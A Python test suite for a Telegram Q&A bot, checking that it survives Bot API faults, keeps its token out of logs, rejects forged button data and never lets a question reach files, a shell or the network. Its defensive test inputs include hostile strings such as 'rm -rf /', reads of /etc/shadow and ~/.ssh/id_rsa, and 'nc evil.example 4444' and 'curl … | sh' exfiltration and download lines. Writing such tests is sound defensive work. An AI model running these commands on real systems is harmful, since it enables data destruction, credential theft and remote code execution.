"""Faults from the Bot API, and attacks through it: the bot survives, every question gets exactly one answer,
and no chat reads another chat's answers, crowds out the others or reaches the file system.

"Exactly one answer" counts the messages the (fake) server accepted in reply to each question, including one
whose HTTP response was then cut short: the server sent it, so the user sees it. A question with no such
message is lost; one with two is duplicated; both fail. docs/RELIABILITY.md explains what each fault does.
All with the fast `hashing` model; each test is bounded by timeouts, none asserts on speed.
"""
from __future__ import annotations

import json
import signal
import sys
import time
import uuid
from collections import Counter
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import httpx
import numpy as np
import pytest
from telegram.error import NetworkError, TimedOut

from bot import render
from bot.telegram_app import retry_reason
from retrieval.config import Settings
from retrieval.service import QAService
from tests.fakebotapi import FakeBotAPI
from tests.telegram_helpers import (
    CHAT,
    GROUP,
    OTHER_CHAT,
    QUESTION,
    QUESTIONS,
    ask,
    assert_each_answered_once,
    assert_no_failed_calls,
    await_answers,
    bot_state,
    button,
    open_hashing_service,
    press,
    push_question,
    quiet,
    replies_by_question,
    run,
    running,
    spawn_bot,
    stop_bot,
    wait_until,
)

pytestmark = pytest.mark.timeout(300)  # a backstop: every wait below has its own, shorter timeout


@pytest.fixture(scope="module")
def service(tmp_path_factory: pytest.TempPathFactory) -> QAService:
    return open_hashing_service(tmp_path_factory.mktemp("faults"))


@pytest.fixture
def fake() -> Iterator[FakeBotAPI]:
    with FakeBotAPI() as server:
        yield server


# --- the faults ---------------------------------------------------------------------------------------

PROXY_PAGE = "<html><head><title>502 Bad Gateway</title></head><body>upstream failed: POST {url}</body></html>"
TIMEOUT_DELAY = {"sendMessage": 6.5, "getUpdates": 8.0}  # past PTB's 5 s read timeout (+ the 1 s long poll)
KINDS = ["429", "500", "502", "503", "502-html", "drop-before", "drop-after", "slow", "timeout"]
APOLOGIES = {render.text("error", "vi"), render.text("error", "en")}


def inject(fake: FakeBotAPI, method: str, kind: str) -> None:
    """One fault on the next call of `method`.

    429: Telegram's flood wait (retry_after 1 s). 500/502/503: the call is not carried out. 502-html: a
    proxy's error page, not JSON, quoting the URL (token included). drop-before: the connection closes before
    the call is carried out. drop-after: the call IS carried out (the message sent), then the connection dies
    halfway through the response. slow: 1.5 s late. timeout: later than PTB waits; carried out afterwards.
    """
    if kind == "429":
        fake.fail_next(method, 429, retry_after=1)
    elif kind in ("500", "502", "503"):
        fake.fail_next(method, int(kind))
    elif kind == "502-html":
        fake.fail_next(method, 502, body=PROXY_PAGE.format(url=f"{fake.base_url}{fake.token}/{method}").encode())
    elif kind == "drop-before":
        fake.drop_next(method)
    elif kind == "drop-after":
        fake.drop_next(method, after_processing=True)
    elif kind == "slow":
        fake.delay(method, 1.5, count=1)
    elif kind == "timeout":
        fake.delay(method, TIMEOUT_DELAY[method], count=1)
    else:
        raise ValueError(kind)


async def fault_done(fake: FakeBotAPI, method: str) -> None:
    """Wait until the faulty call has finished at the server (a timed-out one finishes after the client gave
    up on it), then a little more for anything it might set off."""
    await fake.await_calls(lambda c: bool(c.fault or c.delay), method=method, timeout=20)
    await quiet(fake, 1.0)


def apologies(fake: FakeBotAPI) -> list[dict]:
    return [m for m in fake.sent_messages() if m["text"] in APOLOGIES]


@pytest.mark.parametrize("kind", KINDS)
def test_send_message_fault_loses_no_answer_and_sends_none_twice(service: QAService, fake: FakeBotAPI,
                                                                 tmp_path: Path, kind: str) -> None:
    async def main_() -> None:
        async with running(fake, service, tmp_path):
            inject(fake, "sendMessage", kind)
            await await_answers(fake, {push_question(fake, CHAT, QUESTION)}, timeout=30)
            await await_answers(fake, {push_question(fake, OTHER_CHAT, QUESTIONS[1])}, timeout=30)  # still up
            await fault_done(fake, "sendMessage")

    run(main_(), timeout=90)
    assert_each_answered_once(fake)
    assert apologies(fake) == []


@pytest.mark.parametrize("kind", KINDS)
def test_get_updates_fault_loses_no_update_and_repeats_none(service: QAService, fake: FakeBotAPI,
                                                            tmp_path: Path, kind: str) -> None:
    asked = {push_question(fake, 3000 + i, q) for i, q in enumerate(QUESTIONS)}  # queued before the bot starts,
    inject(fake, "getUpdates", kind)  # so the faulty getUpdates is the one carrying them

    async def main_() -> None:
        async with running(fake, service, tmp_path):
            await await_answers(fake, asked, timeout=40)
            await fault_done(fake, "getUpdates")

    run(main_(), timeout=90)
    assert_each_answered_once(fake, asked)
    assert apologies(fake) == []


def test_a_burst_of_1000_queued_updates_from_200_chats_is_answered_once_each(service: QAService, fake: FakeBotAPI,
                                                                             tmp_path: Path) -> None:
    asked = {push_question(fake, 40_000 + i % 200, QUESTIONS[i % len(QUESTIONS)]) for i in range(1000)}

    async def main_() -> float:
        async with running(fake, service, tmp_path, rate_limit=1000.0):
            start = time.monotonic()
            await await_answers(fake, asked, timeout=240)
            elapsed = time.monotonic() - start
            await quiet(fake, 1.0)
            return elapsed

    elapsed = run(main_(), timeout=280)
    print(f"\n[burst] {len(asked)} queued questions from 200 chats answered in {elapsed:.1f} s "
          f"({len(fake.calls_to('getUpdates'))} getUpdates, {len(fake.calls_to('sendChatAction'))} typing actions)")
    assert_each_answered_once(fake, asked)
    assert_no_failed_calls(fake)


def test_random_faults_amid_traffic_lose_nothing_and_repeat_nothing(service: QAService, fake: FakeBotAPI,
                                                                    tmp_path: Path) -> None:
    """Waves of 5 questions from 50 chats; before each wave one fault, drawn with a fixed seed, on
    sendMessage (two waves in three) or getUpdates."""
    rng = np.random.default_rng(0)
    kinds = [k for k in KINDS if k != "timeout"]  # timeouts cost seconds each; their own tests cover them
    injected: Counter[str] = Counter()
    asked: set[tuple[int, int]] = set()

    async def main_() -> None:
        async with running(fake, service, tmp_path, rate_limit=1000.0):
            for wave in range(24):
                method = "getUpdates" if wave % 3 == 0 else "sendMessage"
                kind = kinds[int(rng.integers(len(kinds)))]
                inject(fake, method, kind)
                injected[f"{method} {kind}"] += 1
                questions = {push_question(fake, 5000 + (5 * wave + j) % 50, QUESTIONS[j]) for j in range(5)}
                asked.update(questions)
                await await_answers(fake, questions, timeout=40)
            fake.clear_faults()
            await quiet(fake, 1.0)

    run(main_(), timeout=280)
    print(f"\n[random faults] {len(asked)} questions, faults injected: {dict(sorted(injected.items()))}; "
          f"faulted calls: {len(fake.faulted_calls())}")
    assert_each_answered_once(fake, asked)
    assert apologies(fake) == []


def test_ctrl_c_mid_burst_then_restart_answers_every_question_exactly_once(fake: FakeBotAPI, tmp_path: Path) -> None:
    """Stopping takes what was fetched to the end; what was not stays queued at Telegram for the next run."""
    proc = spawn_bot(fake, tmp_path, verbose="-v")
    wait_until(lambda: bool(fake.calls_to("deleteWebhook")), proc)
    asked = {push_question(fake, 60_000 + i % 60, QUESTIONS[i % len(QUESTIONS)]) for i in range(100)}
    wait_until(lambda: len(replies_by_question(fake)) >= 20, proc)
    proc.send_signal(signal.SIGINT)
    asked |= {push_question(fake, 60_000 + i % 60, QUESTIONS[i % len(QUESTIONS)]) for i in range(50)}
    proc.wait(timeout=60)  # the users keep asking while the bot stops
    code, first_log = stop_bot(proc)
    assert code == 0, first_log[-3000:]
    answered = set(replies_by_question(fake))
    pending = {(u["message"]["chat"]["id"], u["message"]["message_id"]) for u in fake.pending_updates()}
    assert answered | pending == asked and not answered & pending, "fetched means answered before exit"

    proc = spawn_bot(fake, tmp_path, verbose="-v")
    wait_until(lambda: set(replies_by_question(fake)) >= asked, proc, timeout=120)
    time.sleep(1.0)
    code, log = stop_bot(proc)
    assert code == 0, log[-3000:]
    print(f"\n[ctrl-c] {len(answered)} answered before Ctrl-C, {len(pending)} left queued and answered after restart")
    assert_each_answered_once(fake, asked)


@pytest.mark.parametrize(("cause", "response_started", "retried"), [
    (httpx.ConnectError("refused"), False, True),
    (httpx.PoolTimeout("pool full"), False, True),
    (httpx.RemoteProtocolError("Server disconnected without sending a response."), False, True),
    (httpx.ReadError("reset"), False, True),
    (httpx.RemoteProtocolError("peer closed connection without sending complete message body"), True, False),
    (httpx.ReadTimeout("slow"), False, False),
    (httpx.WriteTimeout("slow"), False, False),
])
def test_only_calls_telegram_cannot_have_carried_out_are_retried(cause: Exception, response_started: bool,
                                                                 retried: bool) -> None:
    error = TimedOut() if isinstance(cause, httpx.TimeoutException) else NetworkError(str(cause))
    error.__cause__ = cause
    assert (retry_reason(error, response_started) is not None) is retried


# --- security: the token ------------------------------------------------------------------------------

def test_the_token_never_reaches_logs_files_or_users_even_when_faults_put_it_in_errors(fake: FakeBotAPI,
                                                                                        tmp_path: Path) -> None:
    secret = fake.token.split(":")[1]
    url = f"{fake.base_url}{fake.token}/sendMessage"
    feedback = tmp_path / "cache" / "feedback.jsonl"
    proc = spawn_bot(fake, tmp_path, "--feedback-file", str(feedback))  # at -vv: debug logs included
    wait_until(lambda: bool(fake.calls_to("deleteWebhook")), proc)

    def wait_reply(key: tuple[int, int]) -> dict:
        wait_until(lambda: key in replies_by_question(fake), proc, timeout=30)
        return next(m for m in fake.sent_messages(key[0]) if (m.get("reply_to_message") or {}).get("message_id")
                    == key[1])

    fake.fail_next("sendMessage", 400, description=f"Bad Request: can't parse {url}")  # -> apology
    fake.push_text(CHAT, QUESTION)
    wait_until(lambda: any(m["text"] in APOLOGIES for m in fake.sent_messages(CHAT)), proc, timeout=30)
    fake.fail_next("sendMessage", 500, description=f"Internal Server Error at {url}")  # -> retried
    fake.fail_next("sendMessage", 502, body=PROXY_PAGE.format(url=url).encode())  # -> retried
    answer = wait_reply(push_question(fake, CHAT, QUESTION))
    fake.drop_next("sendMessage", after_processing=True)  # -> delivered, logged as a failure
    wait_reply(push_question(fake, CHAT, QUESTIONS[1]))
    fake.fail_next("getUpdates", 502, body=PROXY_PAGE.format(url=url.replace("sendMessage", "getUpdates")).encode())
    fake.fail_next("getUpdates", 400, description=f"Bad Request: {url}")  # -> the Updater logs a traceback
    wait_reply(push_question(fake, CHAT, QUESTION))
    fake.fail_next("answerCallbackQuery", 400, description=f"Bad Request: query {url}")  # -> a traceback
    fake.push_callback(CHAT, answer["message_id"], button(answer, "👍"))
    wait_until(lambda: any(c.fault for c in fake.calls_to("answerCallbackQuery")), proc, timeout=30)
    fake.push_callback(CHAT, answer["message_id"], button(answer, "👍"))
    wait_until(feedback.exists, proc, timeout=30)
    fake.push_callback(OTHER_CHAT, 1, button(answer, "👎"))  # forged: another chat's key
    wait_until(lambda: len([c for c in fake.calls_to("answerCallbackQuery") if c.ok]) >= 2, proc, timeout=30)
    code, log = stop_bot(proc)
    assert code == 0, log[-3000:]

    assert "<token>" in log, "the faults did put the token into errors (and it was redacted)"
    seen_by_users = json.dumps([c.params for c in fake.calls], ensure_ascii=False, default=str)
    files = {p: p.read_bytes() for p in tmp_path.rglob("*") if p.is_file()}
    assert feedback in files and any(p.name.endswith(".salt") for p in files)
    for where, text in [("log", log), ("messages and toasts", seen_by_users),
                        *((str(p), data.decode("latin-1")) for p, data in files.items())]:
        assert secret.lower() not in text.lower(), f"the token leaked into {where}"


def test_the_webhook_secret_is_not_logged_either(fake: FakeBotAPI, tmp_path: Path) -> None:
    """PTB logs setWebhook's parameters at -vv, the secret that authenticates Telegram's updates among them."""
    import socket

    with socket.socket() as s:
        s.bind(("127.0.0.1", 0))
        port = s.getsockname()[1]
    proc = spawn_bot(fake, tmp_path, "--webhook-url", "https://bot.example.org/hook", "--port", str(port))
    wait_until(lambda: bool(fake.calls_to("setWebhook")), proc)
    time.sleep(0.5)
    code, log = stop_bot(proc)
    webhook_secret = fake.calls_to("setWebhook")[0].params["secret_token"]  # random: no --secret-token given
    assert code == 0, log[-3000:]
    assert "setWebhook" in log, "-vv logs the call..."
    assert webhook_secret not in log and fake.token.split(":")[1] not in log, "...but not the secrets"


# --- security: who may press what ---------------------------------------------------------------------

def toast(call: Any) -> str:
    return call.params.get("text", "")


def test_allowlist_holds_for_button_presses_too(service: QAService, fake: FakeBotAPI, tmp_path: Path) -> None:
    async def main_() -> dict[str, Any]:
        async with running(fake, service, tmp_path, allowed_chats=frozenset({CHAT})):
            answer = await ask(fake, CHAT, QUESTION)
            fake.push_text(OTHER_CHAT, "xin chào")
            await fake.await_messages(1, chat_id=OTHER_CHAT)  # the one polite refusal
            presses = [await press(fake, chat, {"message_id": 1}, button(answer, label))
                       for chat in (OTHER_CHAT, GROUP) for label in ("👍", "👎", "📖")]
            qid = fake.push_inline_callback(button(answer, "👍"))  # no chat at all
            [inline] = await fake.await_calls(lambda c: c.params.get("callback_query_id") == qid,
                                              method="answerCallbackQuery", timeout=10)
            await quiet(fake)
            return {"presses": presses + [inline]}

    out = run(main_())
    assert {toast(c) for c in out["presses"]} == {render.plain("refused", "vi")}
    assert len(fake.sent_messages(OTHER_CHAT)) == 1 and fake.sent_messages(GROUP) == []
    assert not (tmp_path / "feedback.jsonl").exists()
    assert_no_failed_calls(fake)


FORGED = ["", "x" * 64, "x" * 10_000, "m:zz:1", "c:\u0661:0", "c:1:\u0661", "u:1:1\n", "😀", '{"a": "u:1:0"}',
          "c:" + "f" * 17 + ":0", "d:1:0001", "u:-1:0", "m::1", "u:1:0;rm -rf /", "../../etc/passwd", "\x00"]


def test_forged_callback_data_reads_nothing_and_breaks_nothing(service: QAService, fake: FakeBotAPI,
                                                               tmp_path: Path) -> None:
    async def main_() -> dict[str, Any]:
        async with running(fake, service, tmp_path):
            answer = await ask(fake, CHAT, QUESTION)
            key = button(answer, "👍").split(":")[1]
            await ask(fake, OTHER_CHAT, "xin chào")
            datas = [b["callback_data"] for row in answer["reply_markup"]["inline_keyboard"] for b in row]
            stolen = [await press(fake, OTHER_CHAT, {"message_id": 1}, d) for d in datas]  # another chat's keys
            garbage = [await press(fake, CHAT, answer, d) for d in FORGED]
            out_of_range = [await press(fake, CHAT, answer, f"{a}:{key}:{n}") for a, n in
                            (("c", 999), ("u", 999), ("d", 5), ("m", 999), ("m", 0))]
            later = await ask(fake, CHAT, QUESTIONS[1])  # and the bot still answers
            await quiet(fake)
            return {"stolen": stolen, "garbage": garbage, "out_of_range": out_of_range, "later": later}

    out = run(main_())
    assert {toast(c) for c in out["stolen"]} == {render.plain("expired", "vi")}
    allowed = {render.plain(k, "vi") for k in ("bad_button", "expired", "no_more")}
    assert all(toast(c) in allowed for c in out["garbage"] + out["out_of_range"])
    assert len(fake.sent_messages(OTHER_CHAT)) == 1  # its own reply; nothing of CHAT's
    assert len(fake.sent_messages(CHAT)) == 2  # two answers; no forged press sent anything
    assert not (tmp_path / "feedback.jsonl").exists()  # and none recorded a vote
    assert_no_failed_calls(fake)


# --- security: one spammy chat cannot crowd out the others ---------------------------------------------

def test_a_spammy_chat_is_held_while_every_other_chat_is_answered(service: QAService, fake: FakeBotAPI,
                                                                  tmp_path: Path) -> None:
    spam, limit = 7001, 5

    async def main_() -> dict[str, Any]:
        async with running(fake, service, tmp_path, flood_limit=limit, rate_limit=1000.0) as app:
            first = push_question(fake, spam, QUESTION)
            spammed = {first} | {push_question(fake, spam, QUESTIONS[i % 5]) for i in range(199)}
            others = {push_question(fake, 7100 + c, QUESTIONS[i]) for c in range(20) for i in range(2)}
            await await_answers(fake, others, timeout=60)
            await fake.await_messages(limit + 1, chat_id=spam, timeout=60)
            answer = next(m for m in fake.sent_messages(spam) if m.get("reply_markup"))
            before = len(fake.sent_messages(spam))
            for _ in range(60):  # the same 📖 button, pressed 60 times
                fake.push_callback(spam, answer["message_id"], button(answer, "📖"))
            await fake.await_calls(lambda c: True, method="answerCallbackQuery", count=60, timeout=30)
            await quiet(fake, 1.0)
            return {"spammed": spammed, "others": others, "before": before, "state": bot_state(app)}

    out = run(main_(), timeout=120)
    counts = replies_by_question(fake)
    spam_replies = [m for m in fake.sent_messages(spam)
                    if (spam, (m.get("reply_to_message") or {}).get("message_id")) in out["spammed"]]
    assert sum(counts.get(q, 0) for q in out["spammed"]) == limit + 1  # 5 answers, 1 notice, then silence
    assert sum("nhanh quá" in m["text"] for m in spam_replies) == 1
    assert_each_answered_once(fake, out["others"])
    contexts = len(fake.sent_messages(spam)) - out["before"]
    toasts = Counter(toast(c) for c in fake.calls_to("answerCallbackQuery"))
    assert contexts == limit and toasts[render.plain("slow_down", "vi")] == 60 - limit
    assert_no_failed_calls(fake)


# --- security: what a question can do ---------------------------------------------------------------------

INJECTION_ARTICLE = """date 2024-01 Tin <b>giả</b> & "thật" *_lừa đảo_*

Trang web <a href="http://evil.example">bấm vào đây</a> hứa trả thưởng 500 triệu đồng cho mỗi người chơi.

Tin nhắn *_khẩn cấp_* [nhấn vào](http://evil.example) đã lừa 200 nạn nhân ở Hà Nội trong tháng 1.
"""
INJECTIONS = ['<a href="tg://user?id=1">bấm</a> thu ngân sách?', "<b>thu ngân sách</b></blockquote><pre>",
              "&lt;script&gt;alert(1)&lt;/script&gt; &amp; &#x3c;b&#x3e;", "*_thu ngân sách_* [x](http://evil.example)",
              "`thu ngân sách` ```code``` ~~s~~ ||spoiler||", '<tg-emoji emoji-id="1">👍</tg-emoji> ngân sách']


@pytest.fixture(scope="module")
def injection_service(tmp_path_factory: pytest.TempPathFactory) -> QAService:
    tmp = tmp_path_factory.mktemp("injection")
    (tmp / "corpus").mkdir()
    (tmp / "corpus" / "tin_gia.txt").write_text(INJECTION_ARTICLE, encoding="utf-8")
    return QAService.open(Settings(cache_dir=tmp / "cache", index_dir=tmp / "index", model="hashing",
                                   corpus=(tmp / "corpus",)))


def test_html_and_markdown_in_questions_and_articles_are_shown_as_text(injection_service: QAService,
                                                                       fake: FakeBotAPI, tmp_path: Path) -> None:
    async def main_() -> tuple[dict, dict, list[dict]]:
        async with running(fake, injection_service, tmp_path):
            link = await ask(fake, CHAT, "Trang web hứa trả thưởng bao nhiêu triệu đồng?")
            stars = await ask(fake, CHAT, "Tin nhắn khẩn cấp đã lừa bao nhiêu nạn nhân?")
            others = [await ask(fake, OTHER_CHAT, q) for q in INJECTIONS]
            return link, stars, others

    link, stars, others = run(main_())
    assert '<a href="http://evil.example">bấm vào đây</a>' in link["text"]  # literally, as the article has it
    assert '<b>giả</b> & "thật" *_lừa đảo_*' in link["text"]  # the title too
    assert "*_khẩn cấp_* [nhấn vào](http://evil.example)" in stars["text"]
    ours = {"bold", "italic", "blockquote", "code"}  # the only entities the bot writes
    for message in [link, stars, *others, *fake.sent_messages()]:
        assert {e["type"] for e in message.get("entities") or []} <= ours, message["text"]
    assert_each_answered_once(fake)
    assert_no_failed_calls(fake)  # the fake parses every message like Telegram: all were valid HTML


HOSTILE = {"100,000 characters": "Thu ngân sách đạt bao nhiêu? " * 3449, "only emoji": "🙂💰🎉" * 30,
           "control characters": "thu\x00ngân\x07sách\x1b[31m đạt\u202e bao nhiêu", "zero-width only": "\u200b\u2060 \ufeff",
           "mixed scripts": "Доход бюджета 预算收入 ميزانية thu ngân sách đạt bao nhiêu?", "punctuation": "?!... ;;",
           "lone surrogate escapes": "thu ngân sách \\ud800 \\udfff &#xd800;", "newlines": "thu\n\n\nngân\r\nsách"}


def test_hostile_questions_each_get_one_sensible_reply(service: QAService, fake: FakeBotAPI, tmp_path: Path) -> None:
    """Telegram itself caps a message at 4,096 characters; a forged or webhook update need not."""
    async def main_() -> dict[str, dict]:
        async with running(fake, service, tmp_path):
            return {name: await ask(fake, CHAT, q) for name, q in HOSTILE.items()}

    replies = run(main_())
    hints = ("1.000", "Hãy gõ câu hỏi bằng chữ", "Không tìm thấy", "—", "·")  # limit, hint, honest no, a quote
    size = len(" ".join(HOSTILE["100,000 characters"].split()))
    assert size > 100_000 and f"{size:,}".replace(",", ".") in replies["100,000 characters"]["text"]
    for name, reply in replies.items():
        assert any(h in reply["text"] for h in hints), (name, reply["text"])
    assert_each_answered_once(fake)
    assert apologies(fake) == []
    assert_no_failed_calls(fake)


_AUDIT: list[tuple[str, tuple]] | None = None  # events recorded while a test is watching
_WATCHED = ("open", "os.listdir", "os.scandir", "glob.glob", "os.remove", "os.rename", "os.rmdir", "os.mkdir",
            "os.chmod", "os.truncate", "os.symlink", "os.link", "shutil.", "subprocess.", "os.system", "os.exec",
            "os.posix_spawn", "os.spawn", "os.fork", "os.startfile", "pty.spawn", "socket.getaddrinfo",
            "socket.connect", "urllib.Request")


def _audit(event: str, args: tuple) -> None:
    if _AUDIT is not None and event.startswith(_WATCHED):
        _AUDIT.append((event, args))


@pytest.fixture
def audit() -> Iterator[list[tuple[str, tuple]]]:
    """Every file, process and network event (PEP 578 audit hooks) while the test runs. A hook cannot be
    removed, so one is installed once per process and records only while this fixture is active."""
    global _AUDIT
    if not getattr(sys, "_tinbot_audit_installed", False):
        sys.addaudithook(_audit)
        sys._tinbot_audit_installed = True  # type: ignore[attr-defined]
    _AUDIT = []
    try:
        yield _AUDIT
    finally:
        _AUDIT = None


def test_a_question_that_is_a_path_or_a_shell_line_never_reaches_files_or_a_shell(
        service: QAService, fake: FakeBotAPI, tmp_path: Path, audit: list[tuple[str, tuple]]) -> None:
    canary = tmp_path / "canary-secret.txt"
    canary.write_text("CANARY-7f3a9 root:x:0:0", encoding="utf-8")
    pwned = Path(f"/tmp/tinbot-pwned-{uuid.uuid4().hex}")
    questions = [str(canary), f"cat {canary}", f"$(cat {canary})", f"`cat {canary}`", "../../../../etc/passwd",
                 "/etc/shadow", "~/.ssh/id_rsa", f"file://{canary}", f"touch {pwned}", f"; touch {pwned} #",
                 f"| nc evil.example 4444 < {canary}", f"$(curl http://evil.example/x | sh) > {pwned}",
                 "C:\\Windows\\System32\\drivers\\etc\\hosts", "\\\\evil.example\\share\\x", "$HOME %APPDATA%",
                 '<!--#exec cmd="ls" --> {{7*7}} ${7*7} %s%s%s%n']
    before = sorted(p.name for p in tmp_path.iterdir())

    async def main_() -> list[dict]:
        async with running(fake, service, tmp_path):
            audit.clear()  # from here on, only what the questions might set off
            return [await ask(fake, CHAT, q) for q in questions]

    replies = run(main_())
    fragments = ("canary", "passwd", "shadow", "id_rsa", "pwned", "evil.example", "hosts", "share")
    touched = [(e, a) for e, a in audit
               if not e.startswith(("open", "os.listdir", "os.scandir", "glob.glob", "socket."))
               or any(f in repr(a) for f in fragments)
               or (e.startswith("socket.") and "127.0.0.1" not in repr(a) and "localhost" not in repr(a))]
    assert touched == [], "a question reached the file system, a shell or the network"
    assert len(replies) == len(questions) and not any("CANARY" in r["text"] or "root:" in r["text"] for r in replies)
    assert not pwned.exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == before
    assert_each_answered_once(fake)


# --- found by an adversarial pass (2026-11-28) -------------------------------------------------------------

def test_a_token_revoked_while_running_stops_the_bot_with_an_error(fake: FakeBotAPI, tmp_path: Path) -> None:
    """PTB stops polling on a 401 but leaves the process up and deaf; a supervisor must see it exit."""
    proc = spawn_bot(fake, tmp_path, verbose="")
    wait_until(lambda: bool(fake.calls_to("deleteWebhook")), proc)
    asked = push_question(fake, CHAT, QUESTION)
    wait_until(lambda: asked in replies_by_question(fake), proc, timeout=30)
    fake.fail_next("getUpdates", 401, description="Unauthorized", count=1000)
    proc.wait(timeout=30)
    code, log = stop_bot(proc)
    assert code == 1 and "rejected the bot token" in log, log[-3000:]
    assert fake.token.split(":")[1] not in log


def test_an_update_delivered_twice_is_answered_once(service: QAService, fake: FakeBotAPI, tmp_path: Path) -> None:
    async def main_() -> None:
        async with running(fake, service, tmp_path):
            first = push_question(fake, CHAT, QUESTION)
            await await_answers(fake, {first}, timeout=30)
            fake.push_update(fake.pushed[-1])  # the same update_id, as Telegram redelivers to a slow webhook
            await quiet(fake, 1.0)

    run(main_())
    assert len(fake.sent_messages(CHAT)) == 1


def test_service_messages_in_private_get_no_hint(service: QAService, fake: FakeBotAPI, tmp_path: Path) -> None:
    async def main_() -> None:
        async with running(fake, service, tmp_path):
            await await_answers(fake, {push_question(fake, CHAT, QUESTION)}, timeout=30)
            sent = fake.pushed[-1]["message"]
            for status in ({"message_auto_delete_timer_changed": {"message_auto_delete_time": 86400}},
                           {"pinned_message": {"message_id": 1, "date": 0, "chat": sent["chat"]}}):
                fake.push_update({"message": {"message_id": sent["message_id"] + 1, "date": sent["date"],
                                              "chat": sent["chat"], "from": sent["from"], **status}})
            await quiet(fake, 1.0)

    run(main_())
    assert len(fake.sent_messages(CHAT)) == 1  # the answer; nothing for the pin or the timer


def test_a_second_webhook_start_cannot_lock_out_the_first() -> None:
    """The default secret is the same on every start (a random one, registered by a second instance that
    then failed to bind, made the serving one refuse every update); a taken port fails before setWebhook."""
    import socket

    from bot.telegram_app import check_port_free, webhook_secret_for
    from embeddings.errors import TinbotError

    token = "123456:ABC-secret"
    assert webhook_secret_for(token) == webhook_secret_for(token) != webhook_secret_for("123456:other")
    assert "secret" not in webhook_secret_for(token) and len(webhook_secret_for(token)) <= 256
    with socket.socket() as busy:
        busy.bind(("127.0.0.1", 0))
        busy.listen()
        with pytest.raises(TinbotError, match="choose another --port"):
            check_port_free("127.0.0.1", busy.getsockname()[1])


def test_token_files_that_cannot_be_read_are_one_clear_error(tmp_path: Path) -> None:
    from bot.telegram_app import read_token
    from embeddings.errors import TinbotError

    latin = tmp_path / "token-latin1"
    latin.write_bytes(b"123456:caf\xe9")
    with pytest.raises(TinbotError, match="not UTF-8 text"):
        read_token(str(latin), {})
    with pytest.raises(TinbotError, match="cannot read the token file"):
        read_token(str(tmp_path), {})  # a folder
    (tmp_path / "token").write_text(" 123456:ABC \n", encoding="utf-8")
    assert read_token(str(tmp_path / "token"), {}) == "123456:ABC"
